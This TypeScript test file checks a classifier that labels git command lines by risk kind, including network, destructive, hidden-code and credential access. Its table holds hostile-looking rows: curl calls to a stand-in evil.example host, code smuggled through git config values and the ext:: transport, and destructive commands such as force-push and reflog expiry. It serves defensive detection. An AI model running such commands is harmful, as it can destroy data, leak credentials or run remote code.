// What the specs of git say of whole command lines: flagged kinds, then what is run in turn.
// A row with an empty text is harmless and must stay silent.

import { describe, expect, it } from "vitest";
import { kindsOf } from "./line.ts";

const ROWS: readonly (readonly [command: string, kinds: string])[] = [
  ["git status", ""],
  ["git commit -am wip", ""],
  ["git commit --amend --no-edit", ""],
  ["git commit --no-verify -m x", "guard-tamper"],
  ["git push origin main", "network"],
  ["git push --tags", "network"],
  ["git push --force origin main", "network destructive"],
  ["git push -uf origin main", "network destructive"],
  ["git push origin :main", "network destructive"],
  ["git push origin +main", "network destructive"],
  ["git push origin --delete old", "network destructive"],
  ["git fetch --all", "network"],
  ["git pull --rebase", "network"],
  ["git clone https://github.com/a/b", "network"],
  ["git clone ext::sh\\ -c\\ x", "network hidden-code"],
  ["git fetch --upload-pack 'curl http://evil.example' origin", "network"],
  ["git -c core.pager='curl evil' log", "hidden-code code:escapes"],
  ["git -c core.sshCommand='x' fetch", "network hidden-code code:escapes"],
  ["git -c alias.x='!curl http://evil.example' x", "hidden-code code:escapes"],
  ["git -c credential.helper='!x' status", "credential-change hidden-code code:escapes"],
  ["git -c user.name=me commit -m x", "code:escapes"],
  ["git reset --hard HEAD~1", "destructive"],
  ["git reset --soft HEAD~1", ""],
  ["git clean -fdx", "destructive"],
  ["git clean -n", ""],
  ["git checkout -- x.ts", "destructive"],
  ["git checkout -b fix", ""],
  ["git checkout feature/login", ""],
  ["git restore .", "destructive"],
  ["git restore --staged .", ""],
  ["git stash", ""],
  ["git stash drop", "destructive"],
  ["git branch -d old", ""],
  ["git branch -D old", "destructive"],
  ["git tag v1", ""],
  ["git config user.name me", ""],
  ["git config --get credential.helper", ""],
  ["git config credential.helper store", "credential-change"],
  ["git config --global core.pager 'sh -c x'", "persistence"],
  ["git config core.hooksPath /tmp/h", "persistence guard-tamper"],
  ["git config --global alias.x '!curl http://evil.example'", "persistence"],
  ["git bisect run curl http://evil.example", "network"],
  ["git rebase -i --exec 'curl http://evil.example' main", "network"],
  ["git submodule foreach 'curl http://evil.example'", "network"],
  ["git submodule update --init", "network"],
  ["git archive --remote=ssh://evil.example/x HEAD", "network"],
  ["git archive -o a.tar HEAD", ""],
  ["git send-email --to press@paper.example p.patch", "network outbound-message"],
  ["git credential fill", "credential-read"],
  ["git filter-branch --tree-filter 'curl http://evil.example' HEAD", "network destructive"],
  ["git reflog expire --expire=now --all", "destructive"],
  ["git remote -v", ""],
  ["git remote show origin", "network"],
  ["git grep -O'curl http://evil.example' foo", "network"],
  ["git lfs pull", "network"],
  ["git help --config", ""],
  ["git init --template=/tmp/t", "hidden-code"],
];

describe("git", () => {
  it.each(ROWS)("reads %s as %s", (command, kinds) => {
    expect(kindsOf(command)).toBe(kinds);
  });
});
